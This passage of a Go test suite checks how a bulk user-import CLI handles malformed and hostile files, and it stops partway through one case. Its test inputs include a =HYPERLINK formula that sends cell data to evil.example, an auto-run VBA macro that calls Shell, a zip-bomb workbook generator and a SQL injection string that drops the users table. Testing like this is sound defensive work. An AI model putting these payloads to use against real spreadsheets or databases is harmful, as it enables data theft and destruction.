package cli_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"crypto/sha256"
	"encoding/xml"
	"fmt"
	"hash/crc32"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/jmoiron/sqlx"
	"github.com/lib/pq"
	"github.com/xuri/excelize/v2"

	"github.com/ccbulk/ccbulk/internal/testdb"
	"github.com/ccbulk/ccbulk/sheet"
)

// The bad-input matrix of docs/RELIABILITY.md: every row is a subtest of
// TestBadInput, run through the real binary against a tenant loaded with
// the demo users. File-level findings must exit 1 and leave the users,
// batches, changes and activation_outbox tables exactly as they were; row
// findings exit 3 and apply only the valid rows. Big and binary inputs are
// generated here, never committed.

const (
	primaryAdmin = "marie.dubois@acme.example"
	inputHeader  = "Email,First Name,Last Name,PBX\n"
	good1        = "new.one@acme.example,New,One,paris\n"
	good2        = "new.two@acme.example,New,Two,paris\n"
)

// dbWant is what a case must leave in the database.
type dbWant int

const (
	// unchanged: the users, batches, changes and outbox tables are exactly as before.
	unchanged dbWant = iota
	// noUserChange: users and changes as before; one more batch (applied, nothing changed).
	noUserChange
	// applied: the users listed in created exist; every other user is as before.
	applied
)

type badInput struct {
	name    string
	file    string                               // input file name in the work dir; "-" reads stdin
	write   func(t *testing.T, path string)      // writes the input (nil: nothing is written)
	stdin   func(t *testing.T) *os.File          // standard input (nil: none)
	extra   []string                             // more arguments
	before  func(t *testing.T, tn *demoTenant)   // runs before the import starts (nil: none)
	during  func(t *testing.T, h *runningImport) // runs while the import runs (nil: none)
	exit    int
	stderr  []string // regular expressions the standard error must match
	stdout  []string // regular expressions the standard output must match
	db      dbWant
	created []string // with applied: emails that must now exist
	absent  []string // emails that must not exist afterwards
	check   func(t *testing.T, db *sqlx.DB, dir string)
}

func fileOf(s string) func(*testing.T, string) {
	return func(t *testing.T, path string) { writeInput(t, path, []byte(s)) }
}

func TestBadInput(t *testing.T) {
	cases := []badInput{
		{name: "EmptyFile", file: "empty.csv", write: fileOf(""), exit: 1,
			stderr: []string{`^ccbulk: empty\.csv: F-HEADER: the file is empty; it needs a header row with at least an Email column\n$`}},
		{name: "HeaderOnly", file: "header.csv", write: fileOf(inputHeader), exit: 0, db: noUserChange,
			stdout: []string{`^header\.csv: 0 rows: 0 created, 0 updated, 0 unchanged, 0 rejected\napplied as batch \d+\n$`}},
		{name: "NoEmailColumn", file: "noemail.csv", write: fileOf("Name,Notes\nNew One,hello\n"), exit: 1,
			stderr: []string{`^ccbulk: noemail\.csv:1: F-HEADER: no Email column; the first row must be the header, with at least Email \(the header read was "Name", "Notes"\)\n$`}},
		{name: "DuplicateHeaders", file: "dup.csv", write: fileOf("Email,First Name,E-mail\n" + "new.one@acme.example,New,x@acme.example\n"), exit: 1,
			stderr: []string{`^ccbulk: dup\.csv:1: E-mail: F-HEADER: columns A and C \("Email" and "E-mail"\) both name the Email column; keep one of them\n$`}},
		{name: "BrokenQuotingUnclosed", file: "quote.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,\"New,Two,paris\n" + good1), exit: 1,
			stderr: []string{`^ccbulk: quote\.csv:3: F-FORMAT: line 3: the quoted cell that starts on this line is not closed \(the file ends on line 4\);`}},
		{name: "BrokenQuotingInBigFile", file: "bigquote.csv", write: unclosedQuoteInBigFile, exit: 1,
			stderr: []string{`^ccbulk: bigquote\.csv:3: F-LIMIT: the row that starts on line 3 is longer than 16MiB; a quoted cell is probably missing its closing quote\n$`}},
		{name: "BrokenQuotingBare", file: "bare.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Ne\"w,Two,paris\n"), exit: 1,
			stderr: []string{`^ccbulk: bare\.csv:3: F-FORMAT: line 3, byte 24: bare " in non-quoted-field; check the quotes on that line`}},
		{name: "RaggedShortRows", file: "short.csv", write: fileOf(inputHeader + good1 + "jean.martin@acme.example,Jean\n"), exit: 0, db: applied,
			created: []string{"new.one@acme.example"},
			stdout:  []string{`^short\.csv: 2 rows: 1 created, 0 updated, 1 unchanged, 0 rejected\n`}},
		{name: "RaggedLongRow", file: "long.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,New,Two,paris,extra\n"), exit: 1,
			stderr: []string{`^ccbulk: long\.csv:3: F-FORMAT: line 3 has 5 cells but the header has 4; a cell holding the delimiter must be quoted, or the header is missing a column\n$`}},
		{name: "NULInCell", file: "nul.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Ne\x00w,Two,paris\n"), exit: 3, db: applied,
			created: []string{"new.one@acme.example"}, absent: []string{"new.two@acme.example"},
			stdout: []string{`(?m)^nul\.csv:3: First Name: R-TEXT: holds the control character U\+0000 at character 3; remove it`}},
		{name: "NULInHeader", file: "nulhead.csv", write: fileOf("Email,First\x00Name\n" + good1), exit: 1,
			stderr: []string{`^ccbulk: nulhead\.csv:1: F-ENCODING: the header line holds NUL bytes: the file looks like UTF-16 without a byte-order mark`}},
		{name: "MegabyteCell", file: "big.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example," + strings.Repeat("x", 1<<20) + ",Two,paris\n"), exit: 3, db: applied,
			created: []string{"new.one@acme.example"}, absent: []string{"new.two@acme.example"},
			stdout: []string{`(?m)^big\.csv:3: First Name: R-TEXT: is 1048576 characters long, over the limit of 1000; shorten it$`}},
		{name: "HundredThousandColumns", file: "wide.csv", write: wideCSV(100_000), exit: 1,
			stderr: []string{`^ccbulk: wide\.csv:1: F-LIMIT: the header has 100000 columns, over the limit of 1024; remove the extra columns\n$`}},
		{name: "InvalidUTF8", file: "latin.csv", write: fileOf(inputHeader + good1 + "new.two@acme.example,Andr\xe9,Two,paris\n"), exit: 1,
			stderr: []string{`^ccbulk: latin\.csv:3: First Name: F-ENCODING: line 3, byte 22: not valid UTF-8; save the file as CSV UTF-8, or name its encoding with --encoding`}},
		{name: "UTF16WithoutBOM", file: "utf16.csv", write: utf16File(inputHeader+good1, false), exit: 1,
			stderr: []string{`^ccbulk: utf16\.csv:1: F-ENCODING: the header line holds NUL bytes: the file looks like UTF-16 without a byte-order mark; save it as CSV UTF-8`}},
		{name: "UTF16WithBOM", file: "utf16bom.csv", write: utf16File(inputHeader+good1, true), exit: 0, db: applied,
			created: []string{"new.one@acme.example"}},
		{name: "TruncatedXLSX", file: "cut.xlsx", write: truncatedXLSX, exit: 1,
			stderr: []string{`^ccbulk: cut\.xlsx: F-FORMAT: not a readable XLSX workbook \(zip: not a valid zip file\); save it again from the spreadsheet program`}},
		{name: "NotZipNamedXLSX", file: "users.xlsx", write: fileOf(inputHeader + good1), exit: 1,
			stderr: []string{`^ccbulk: users\.xlsx: F-FORMAT: is named \.xlsx but is not an XLSX workbook \(an XLSX file is a zip archive; this one starts with "Email,Fi"\); if it is a CSV file, name it \.csv\n$`}},
		{name: "XLSXZipBomb", file: "bomb.xlsx", write: zipBomb, exit: 1,
			stderr: []string{`^ccbulk: bomb\.xlsx: F-LIMIT: the workbook decompresses to more than 4 ?GiB \(--max-unzip-size\); it is not an honest sheet of users, or raise the limit\n$`}},
		externalLinksAndMacros(),
		{name: "FormulaInCell", file: "formula.csv",
			write: fileOf(inputHeader + `new.one@acme.example,"=HYPERLINK(""http://evil.example/?""&A1)",+1 555 0100,paris` + "\n" +
				`new.two@acme.example,'@SUM(1+1),-2,paris` + "\n"),
			exit: 0, db: applied, created: []string{"new.one@acme.example", "new.two@acme.example"},
			check: checkFormulas},
		sqlInEveryTextColumn(),
		unicodeEmail(),
		fileChangesWhileRead(),
		{name: "MissingFile", file: "missing.csv", exit: 1,
			stderr: []string{`^ccbulk: missing\.csv: F-FORMAT: cannot read the file: no such file or directory; check the path\n$`}},
		{name: "DirectoryInsteadOfFile", file: "folder.csv", write: func(t *testing.T, path string) { noErr(t, os.Mkdir(path, 0o755)) }, exit: 1,
			stderr: []string{`^ccbulk: folder\.csv: F-FORMAT: is a directory, not a CSV or XLSX file; name the file inside it\n$`}},
		{name: "StdinClosedEarly", file: "-", stdin: pipeOf(inputHeader + good1 + "new.two@acme.example,\"Ne"), exit: 1,
			stderr: []string{`^ccbulk: <stdin>:3: F-FORMAT: line 3, byte 25: a quoted cell is not closed, or has text after its closing quote; write a quote inside a quoted cell twice \(""\)\n$`}},
		{name: "StdinClosedAtOnce", file: "-", stdin: pipeOf(""), exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-HEADER: the file is empty; it needs a header row with at least an Email column\n$`}},
		// Content decides the format, not the name (docs/REFERENCE.md §5, Running it).
		{name: "LegacyXLS", file: "users.xls", write: fileOf(oleFile()), exit: 1,
			stderr: []string{`^ccbulk: users\.xls: F-FORMAT: is a legacy Excel 97-2003 workbook \(\.xls\); save it as Excel Workbook \(\.xlsx\) or CSV UTF-8 and import that\n$`}},
		{name: "LegacyXLSNamedCSV", file: "users.csv", write: fileOf(oleFile()), exit: 1,
			stderr: []string{`^ccbulk: users\.csv: F-FORMAT: is a legacy Excel 97-2003 workbook \(\.xls\)`}},
		{name: "LegacyXLSOnStdin", file: "-", stdin: pipeOf(oleFile()), exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-FORMAT: is a legacy Excel 97-2003 workbook \(\.xls\)`}},
		{name: "OpenDocument", file: "users.ods", write: fileOf(odsFile(t)), exit: 1,
			stderr: []string{`^ccbulk: users\.ods: F-FORMAT: is an OpenDocument spreadsheet \(\.ods\); save it as XLSX \(Excel 2007-365\) or CSV UTF-8 from LibreOffice Calc and import that\n$`}},
		{name: "OpenDocumentOnStdin", file: "-", stdin: pipeOf(odsFile(t)), exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-FORMAT: is an OpenDocument spreadsheet \(\.ods\)`}},
		{name: "ZipNotWorkbook", file: "users.zip", write: fileOf(zipOf(t, map[string]string{"users.csv": inputHeader + good1})), exit: 1,
			stderr: []string{`^ccbulk: users\.zip: F-FORMAT: is a zip archive, not a workbook \(an XLSX workbook holds \[Content_Types\]\.xml and xl/workbook\.xml\); unpack it`}},
		{name: "PDF", file: "users.pdf", write: fileOf("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), exit: 1,
			stderr: []string{`^ccbulk: users\.pdf: F-FORMAT: is a PDF document, not a sheet; export the users as CSV UTF-8 or XLSX`}},
		{name: "XLSXNamedCSV", file: "users.csv", write: func(t *testing.T, path string) {
			writeInput(t, path, workbook(t, csvRow(good1), []string{"bad", "Bad", "Row", "paris"}))
		}, exit: 3, db: applied, created: []string{"new.one@acme.example"},
			stdout: []string{`(?m)^users\.csv: 2 rows: 1 created, 0 updated, 0 unchanged, 1 rejected$`},
			check:  reportIsXLSX("users.report.xlsx")},
		{name: "XLSXNamedCSVWithSheet", file: "users.csv", extra: []string{"--sheet", "People"},
			write: func(t *testing.T, path string) { writeInput(t, path, twoSheetWorkbook(t)) },
			exit:  0, db: applied, created: []string{"new.two@acme.example"}, absent: []string{"new.one@acme.example"},
			stdout: []string{`(?m)^users\.csv: 1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected$`}},
		xlsxOnStdin(workbook(t, csvRow(good1), []string{"bad", "Bad", "Row", "paris"})),
		{name: "XLSXOnStdinWithSheet", file: "-", extra: []string{"--sheet", "People"}, stdin: func(t *testing.T) *os.File {
			return pipeOf(string(twoSheetWorkbook(t)))(t)
		}, exit: 0, db: applied, created: []string{"new.two@acme.example"}, absent: []string{"new.one@acme.example"},
			stdout: []string{`(?m)^<stdin>: 1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected$`}},
		{name: "XLSXOnStdinNoSuchSheet", file: "-", extra: []string{"--sheet", "Nope"}, stdin: func(t *testing.T) *os.File {
			return pipeOf(string(twoSheetWorkbook(t)))(t)
		}, exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-FORMAT: the workbook has no sheet "Nope"; its sheets are "Users", "People"\n$`}},
		{name: "CSVOnStdinWithSheet", file: "-", extra: []string{"--sheet", "Users"}, stdin: pipeOf(inputHeader + good1), exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-FORMAT: is CSV, which has one sheet; --sheet applies to XLSX workbooks\n$`}},
		{name: "XLSXOnStdinOverLimit", file: "-", extra: []string{"--max-unzip-size", "1KiB"}, stdin: func(t *testing.T) *os.File {
			return pipeOf(string(workbook(t, csvRow(good1))))(t)
		}, exit: 1,
			stderr: []string{`^ccbulk: <stdin>: F-LIMIT: the workbook is over the limit of 1 ?KiB \(--max-unzip-size\)\n$`}},
	}
	server := testdb.ServerURL(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel() // each case has a database of its own
			runBadInput(t, server, tc)
		})
	}
}

// demoTenant is a database holding the demo organization and its users.
type demoTenant struct {
	url string
	db  *sqlx.DB
}

func newDemoTenant(t *testing.T, server string) *demoTenant {
	t.Helper()
	url, drop, err := testdb.Create(server)
	if err != nil {
		t.Fatal(err)
	}
	db, err := sqlx.Open("postgres", url)
	if err != nil {
		drop()
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close(); drop() })
	tn := &demoTenant{url: url, db: db}
	dir := t.TempDir()
	cmd := newCommand(t, "bash", filepath.Join(fixturesDir(), "demo", "org.sh"))
	cmd.Env = append(os.Environ(), "DATABASE_URL="+url, "CCBULK="+ccbulkPath())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("org.sh: %v\n%s", err, out)
	}
	copyInput(t, filepath.Join(fixturesDir(), "demo", "users.csv"), filepath.Join(dir, "users.csv"))
	if r := tn.run(t, dir, nil, "import", "users.csv", "--org", "acme", "--actor", primaryAdmin); r.code != 0 {
		t.Fatalf("loading the demo users: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	return tn
}

type runResult struct {
	code           int
	stdout, stderr string
}

// run runs the real binary in dir against the tenant's database.
func (tn *demoTenant) run(t *testing.T, dir string, stdin *os.File, args ...string) runResult {
	t.Helper()
	h := tn.start(t, dir, stdin, args...)
	return h.wait(t)
}

type runningImport struct {
	cmd            *exec.Cmd
	stdout, stderr bytes.Buffer
	tn             *demoTenant
	dir            string
}

func (tn *demoTenant) start(t *testing.T, dir string, stdin *os.File, args ...string) *runningImport {
	t.Helper()
	h := &runningImport{tn: tn, dir: dir}
	h.cmd = newCommand(t, ccbulkPath(), args...)
	h.cmd.Dir = dir
	h.cmd.Env = append(os.Environ(), "DATABASE_URL="+tn.url)
	if stdin != nil {
		h.cmd.Stdin = stdin
	}
	h.cmd.Stdout, h.cmd.Stderr = &h.stdout, &h.stderr
	if err := h.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return h
}

func (h *runningImport) wait(t *testing.T) runResult {
	t.Helper()
	err := h.cmd.Wait()
	code := 0
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("ccbulk: %v", err)
		}
		code = ee.ExitCode()
	}
	return runResult{code: code, stdout: h.stdout.String(), stderr: h.stderr.String()}
}

func runBadInput(t *testing.T, server string, tc badInput) {
	tn := newDemoTenant(t, server)
	dir := t.TempDir()
	if tc.write != nil {
		tc.write(t, filepath.Join(dir, tc.file))
	}
	var stdin *os.File
	if tc.stdin != nil {
		stdin = tc.stdin(t)
	}
	before := dumpTables(t, tn.db)
	usersBefore := dumpUsersExcept(t, tn.db, tc.created)
	args := append([]string{"import", tc.file, "--org", "acme", "--actor", primaryAdmin}, tc.extra...)
	if tc.before != nil {
		tc.before(t, tn)
	}
	h := tn.start(t, dir, stdin, args...)
	if tc.during != nil {
		tc.during(t, h)
	}
	r := h.wait(t)
	t.Logf("exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	if r.code != tc.exit {
		t.Errorf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, tc.exit, r.stdout, r.stderr)
	}
	matchAll(t, "stderr", r.stderr, tc.stderr)
	matchAll(t, "stdout", r.stdout, tc.stdout)
	if tc.exit == 1 && r.stdout != "" {
		t.Errorf("a refused file printed on stdout:\n%s", r.stdout)
	}
	if strings.Contains(r.stderr, "panic") || strings.Contains(r.stderr, "goroutine ") {
		t.Errorf("ccbulk panicked:\n%s", r.stderr)
	}
	after := dumpTables(t, tn.db)
	switch tc.db {
	case unchanged:
		for _, table := range auditedTables {
			if before[table] != after[table] {
				t.Errorf("table %s changed:\nbefore:\n%s\nafter:\n%s", table, before[table], after[table])
			}
		}
	case noUserChange:
		for _, table := range []string{"users", "changes", "activation_outbox"} {
			if before[table] != after[table] {
				t.Errorf("table %s changed:\nbefore:\n%s\nafter:\n%s", table, before[table], after[table])
			}
		}
		kept := true
		for _, line := range strings.Split(strings.TrimSpace(before["batches"]), "\n") {
			kept = kept && strings.Contains(after["batches"], line+"\n")
		}
		if !kept || strings.Count(after["batches"], "\n") != strings.Count(before["batches"], "\n")+1 {
			t.Errorf("want one more batch:\nbefore:\n%s\nafter:\n%s", before["batches"], after["batches"])
		}
	case applied:
		if got := dumpUsersExcept(t, tn.db, tc.created); got != usersBefore {
			t.Errorf("users other than %v changed:\nbefore:\n%s\nafter:\n%s", tc.created, usersBefore, got)
		}
		for _, e := range tc.created {
			if !userExists(t, tn.db, e) {
				t.Errorf("%s was not created", e)
			}
		}
	}
	for _, e := range tc.absent {
		if userExists(t, tn.db, e) {
			t.Errorf("%s was created from a rejected row", e)
		}
	}
	if tc.check != nil {
		tc.check(t, tn.db, dir)
	}
}

var auditedTables = []string{"users", "batches", "changes", "activation_outbox"}

// dumpTables returns every row of the tables ccbulk writes, as text.
func dumpTables(t *testing.T, db *sqlx.DB) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, table := range auditedTables {
		var s string
		q := fmt.Sprintf(`SELECT coalesce(string_agg(t::text, E'\n' ORDER BY t::text), '') FROM %s t`, table)
		if err := db.Get(&s, q); err != nil {
			t.Fatal(err)
		}
		m[table] = s + "\n"
	}
	return m
}

func dumpUsersExcept(t *testing.T, db *sqlx.DB, emails []string) string {
	t.Helper()
	var s string
	err := db.Get(&s, `SELECT coalesce(string_agg(t::text, E'\n' ORDER BY t::text), '') FROM users t WHERE NOT email = ANY($1)`, pq.StringArray(emails))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func userExists(t *testing.T, db *sqlx.DB, email string) bool {
	t.Helper()
	var n int
	if err := db.Get(&n, `SELECT count(*) FROM users WHERE tenant_id = 'acme' AND email = $1`, email); err != nil {
		t.Fatal(err)
	}
	return n == 1
}

func matchAll(t *testing.T, what, got string, patterns []string) {
	t.Helper()
	for _, p := range patterns {
		if !regexp.MustCompile(p).MatchString(got) {
			t.Errorf("%s does not match %s:\n%s", what, p, got)
		}
	}
}

func ccbulkPath() string { return filepath.Join(binDir, "ccbulk") }

func fixturesDir() string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(filepath.Dir(file), "..", "..", "fixtures")
}

func noErr(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func writeInput(t *testing.T, path string, b []byte) {
	t.Helper()
	noErr(t, os.WriteFile(path, b, 0o644))
}

func copyInput(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	noErr(t, err)
	writeInput(t, to, b)
}

// pipeOf returns standard input that yields s and then ends, as when the
// program writing into the pipe stops early.
func pipeOf(s string) func(*testing.T) *os.File {
	return func(t *testing.T) *os.File {
		r, w, err := os.Pipe()
		noErr(t, err)
		go func() {
			_, _ = w.WriteString(s) // ccbulk may stop reading early; the test checks what it read
			w.Close()
		}()
		t.Cleanup(func() { r.Close() })
		return r
	}
}

func wideCSV(columns int) func(*testing.T, string) {
	return func(t *testing.T, path string) {
		var b strings.Builder
		b.WriteString("Email")
		for i := 1; i < columns; i++ {
			fmt.Fprintf(&b, ",C%d", i)
		}
		b.WriteString("\n" + strings.TrimSuffix(good1, "\n") + strings.Repeat(",", columns-4) + "\n")
		writeInput(t, path, []byte(b.String()))
	}
}

// unclosedQuoteInBigFile: a quote opened on line 3 and never closed, then
// 24 MB of rows: the reader refuses the row at 16 MB instead of holding the
// rest of the file in memory as one cell.
func unclosedQuoteInBigFile(t *testing.T, path string) {
	f, err := os.Create(path)
	noErr(t, err)
	defer f.Close()
	_, err = f.WriteString(inputHeader + good1 + "new.two@acme.example,\"New,Two,paris\n")
	noErr(t, err)
	row := []byte(strings.Repeat("filler.row@acme.example,Filler,Row,paris\n", 1000))
	for written := 0; written < 24<<20; written += len(row) {
		_, err = f.Write(row)
		noErr(t, err)
	}
}

func utf16File(s string, bom bool) func(*testing.T, string) {
	return func(t *testing.T, path string) {
		var b []byte
		if bom {
			b = append(b, 0xFF, 0xFE)
		}
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		writeInput(t, path, b)
	}
}

// workbook returns an XLSX written by ccbulk's own writer.
func workbook(t *testing.T, rows ...[]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := sheet.NewWriter(sheet.XLSX, &buf, sheet.WriterOptions{})
	noErr(t, err)
	noErr(t, w.WriteHeader(strings.Split(strings.TrimSpace(inputHeader), ",")))
	for _, r := range rows {
		noErr(t, w.WriteRow(r, nil))
	}
	noErr(t, w.Close())
	return buf.Bytes()
}

func csvRow(s string) []string { return strings.Split(strings.TrimSpace(s), ",") }

func truncatedXLSX(t *testing.T, path string) {
	b := workbook(t, csvRow(good1), csvRow(good2))
	writeInput(t, path, b[:len(b)/2])
}

// zipBomb writes a workbook whose worksheet is valid XML that decompresses
// to 4.2 GB of white space (from 4 MB on disk): the deflate stream is built
// by repeating the bytes that encode one megabyte of spaces, so the test
// does not spend the time to compress gigabytes.
func zipBomb(t *testing.T, path string) {
	const mb = 1 << 20
	const megabytes = 4200
	prefix := []byte(xml.Header + `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	suffix := []byte(`</sheetData></worksheet>`)
	spaces := bytes.Repeat([]byte{' '}, mb)

	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	noErr(t, err)
	_, _ = fw.Write(prefix) // flate keeps a write error and returns it from the Flush and Close checked below
	_, _ = fw.Write(spaces)
	noErr(t, fw.Flush()) // byte-aligned from here on
	start := buf.Len()
	_, _ = fw.Write(spaces)
	noErr(t, fw.Flush())
	segment := slices.Clone(buf.Bytes()[start:]) // one more megabyte of spaces
	_, _ = fw.Write(suffix)
	noErr(t, fw.Close())
	tail := slices.Clone(buf.Bytes()[start+len(segment):])

	var stream bytes.Buffer
	stream.Write(buf.Bytes()[:start])
	for range megabytes - 1 {
		stream.Write(segment)
	}
	stream.Write(tail)
	crc := crc32.Update(0, crc32.IEEETable, prefix)
	for range megabytes {
		crc = crc32.Update(crc, crc32.IEEETable, spaces)
	}
	crc = crc32.Update(crc, crc32.IEEETable, suffix)
	size := uint64(len(prefix)) + megabytes*mb + uint64(len(suffix))

	parts := zipParts(t, workbook(t, csvRow(good1)))
	writeZip(t, path, parts, map[string]func(*zip.Writer) error{
		"xl/worksheets/sheet1.xml": func(zw *zip.Writer) error {
			w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc,
				CompressedSize64: uint64(stream.Len()), UncompressedSize64: size})
			if err != nil {
				return err
			}
			_, err = w.Write(stream.Bytes())
			return err
		},
	})
}

// writeZip writes parts as a zip archive at path, in name order; a part
// named in raw is written by its function instead (already compressed,
// say, with sizes that lie).
func writeZip(t *testing.T, path string, parts map[string][]byte, raw map[string]func(*zip.Writer) error) {
	t.Helper()
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, name := range sortedKeys(parts) {
		if write, ok := raw[name]; ok {
			noErr(t, write(zw))
			continue
		}
		w, err := zw.Create(name)
		noErr(t, err)
		_, err = w.Write(parts[name])
		noErr(t, err)
	}
	noErr(t, zw.Close())
	writeInput(t, path, out.Bytes())
}

func zipParts(t *testing.T, book []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	noErr(t, err)
	parts := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		noErr(t, err)
		var b bytes.Buffer
		_, err = b.ReadFrom(rc)
		rc.Close()
		noErr(t, err)
		parts[f.Name] = b.Bytes()
	}
	return parts
}

func sortedKeys(m map[string][]byte) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	return keys
}

// externalLinksAndMacros: a macro-enabled workbook whose cell is a formula
// over an external workbook served by a test HTTP server. ccbulk reads the
// cells' values as text: the macros never run and the link is never
// fetched.
func externalLinksAndMacros() badInput {
	var hits atomic.Int64
	var srv *httptest.Server
	return badInput{
		name: "XLSXExternalLinksAndMacros", file: "macros.xlsx", exit: 0, db: applied,
		created: []string{"new.one@acme.example"},
		write: func(t *testing.T, path string) {
			srv = httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
			t.Cleanup(srv.Close)
			var buf bytes.Buffer
			book := excelize.NewFile()
			noErr(t, book.SetSheetRow("Sheet1", "A1", &[]any{"Email", "First Name", "Last Name", "PBX"}))
			noErr(t, book.SetSheetRow("Sheet1", "A2", &[]any{"new.one@acme.example", "New", "One", "paris"}))
			noErr(t, book.SetCellFormula("Sheet1", "B2", "[1]Sheet1!A1"))
			noErr(t, book.SetCellHyperLink("Sheet1", "C2", srv.URL+"/link", "External"))
			noErr(t, book.Write(&buf))
			noErr(t, book.Close())
			parts := zipParts(t, buf.Bytes())
			parts["xl/vbaProject.bin"] = []byte("Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc.exe\"\nEnd Sub\n")
			parts["xl/externalLinks/externalLink1.xml"] = []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>New</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`)
			parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="` + srv.URL + `/book.xlsx" TargetMode="External"/></Relationships>`)
			rels := string(parts["xl/_rels/workbook.xml.rels"])
			rels = strings.Replace(rels, "</Relationships>", `<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`, 1)
			parts["xl/_rels/workbook.xml.rels"] = []byte(rels)
			wb := string(parts["xl/workbook.xml"])
			wb = strings.Replace(wb, "</sheets>", `</sheets><externalReferences><externalReference r:id="rIdExt1"/></externalReferences>`, 1)
			parts["xl/workbook.xml"] = []byte(wb)
			ct := string(parts["[Content_Types].xml"])
			ct = strings.Replace(ct, "</Types>", `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`, 1)
			parts["[Content_Types].xml"] = []byte(ct)
			writeZip(t, path, parts, nil)
		},
		stdout: []string{`^macros\.xlsx: 1 rows: 1 created, 0 updated, 0 unchanged, 0 rejected\n`},
		check: func(t *testing.T, _ *sqlx.DB, _ string) {
			if n := hits.Load(); n != 0 {
				t.Errorf("the external link was fetched %d times", n)
			}
		},
	}
}

// checkFormulas: cells that a spreadsheet would run are stored as the text
// they are, and the export writes them so that they show as text.
func checkFormulas(t *testing.T, db *sqlx.DB, dir string) {
	t.Helper()
	var names []string
	noErr(t, db.Select(&names, `SELECT first_name || '|' || last_name FROM users WHERE email IN ('new.one@acme.example', 'new.two@acme.example') ORDER BY email`))
	want := []string{`=HYPERLINK("http://evil.example/?"&A1)|+1 555 0100`, `@SUM(1+1)|-2`}
	if !slices.Equal(names, want) {
		t.Errorf("stored %q, want %q", names, want)
	}
	tn := &demoTenant{url: dbURL(t, db), db: db}
	r := tn.run(t, dir, nil, "export", "--org", "acme", "--actor", primaryAdmin, "-o", "export.csv")
	if r.code != 0 {
		t.Fatalf("export: exit %d: %s", r.code, r.stderr)
	}
	b, err := os.ReadFile(filepath.Join(dir, "export.csv"))
	noErr(t, err)
	for _, line := range []string{`new.one@acme.example,"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 555 0100,`, `new.two@acme.example,'@SUM(1+1),'-2,`} {
		if !strings.Contains(string(b), line) {
			t.Errorf("export has no line starting %s:\n%s", line, b)
		}
	}
	r = tn.run(t, dir, nil, "import", "export.csv", "--org", "acme", "--actor", primaryAdmin, "--json")
	if r.code != 0 || !strings.Contains(r.stdout, `"created":0,"updated":0,`) {
		t.Errorf("the export does not import back unchanged: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

func dbURL(t *testing.T, db *sqlx.DB) string {
	t.Helper()
	var name string
	noErr(t, db.Get(&name, `SELECT current_database()`))
	u, err := testdb.WithDatabase(testdb.ServerURL(t), name)
	noErr(t, err)
	return u
}

// sqlInEveryTextColumn: SQL in every text column is data. Names and
// usernames are stored as written; the columns that name something
// (PBX, Status, Home Organization, CC Role, Copy Privileges From) reject
// their row with the value quoted; the tables are intact.
func sqlInEveryTextColumn() badInput {
	const inj = `x'); DROP TABLE users; --`
